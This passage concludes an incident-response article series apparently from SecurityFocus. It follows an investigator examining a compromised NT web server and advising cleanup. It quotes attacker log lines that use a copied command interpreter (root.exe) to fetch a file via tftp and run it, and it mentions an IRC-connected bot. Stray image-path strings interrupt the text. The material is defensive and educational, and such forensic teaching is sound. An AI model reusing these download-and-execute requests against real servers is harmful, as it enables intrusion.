Eliot collected up his diskettes, thanked Elizabeth for her time, and headed back to his office. After going through the files he'd collected for an hour or so, he drafted an e-mail to Elizabeth, letting her know what she needed to do to recover the system. From what he saw, there didn't seem to be any significant issues on the system. From the Web server logs, it was clear that the directory transversalexploit had been used to copy the command interpreter to the scripts directory, then copy the file "lb.exe" on the server using tftp.exe, and finally execute it:

 GET /scripts/root.exe /c+tftp+-i+ GET /scripts/root.exe /c+lb.exe

The netstat output he collected showed a connection to a remote server on port 6667, which Eliot had determined was used by IRC. The output of fport showed that statistics.exe was using the local port on that connection. So this was some kind of program that communicated on IRC. Eliot had no idea what information the program had communicated to the IRC server so far, so he told Elizabeth to use Task Manager to kill the process, then remove the Registry entry for the "Run" key, and delete the directory structure that had been created. He also told her that she should remove the file "root.exe" from the "\scripts" directory, patch the Web server against the directory transversal exploit, and at least move executables like tftp.exe to another directory.

Conclusion: Final Thoughts

Over the course of this series, our friend Eliot has developed a toolkit, as well as a skillset, for handling incidents that occur to NT/2K systems. Furthermore, his experiences have shown the necessity of developing a well thought-out incident response policy prior to the occurence of incidents. Hopefully, his experiences have shown the reader what sorts of things are possible when it comes to handling incidents on these systems and what sorts of preparations should be undertaken to ensure proper, effective incident response.

To read Part Six of this series, please click here.Relevant Links

No Stone Unturned, Part One
H. Carvey, SecurityFocus

No Stone Unturned, Part Two
H. Carvey, SecurityFocus

No Stone Unturned, Part Three
H. Carvey, SecurityFocus

No Stone Unturned, Part Four
H. Carvey, SecurityFocus

No Stone Unturned, Part Six
H. Carvey, SecurityFocus

This article originally appeared on SecurityFocus.com --reproduction in whole or in part is not allowed without expressed written consent.

0 Favorited
0 Files

Tags and Keywords

RelatedEntries and Links

No Related Resource entered.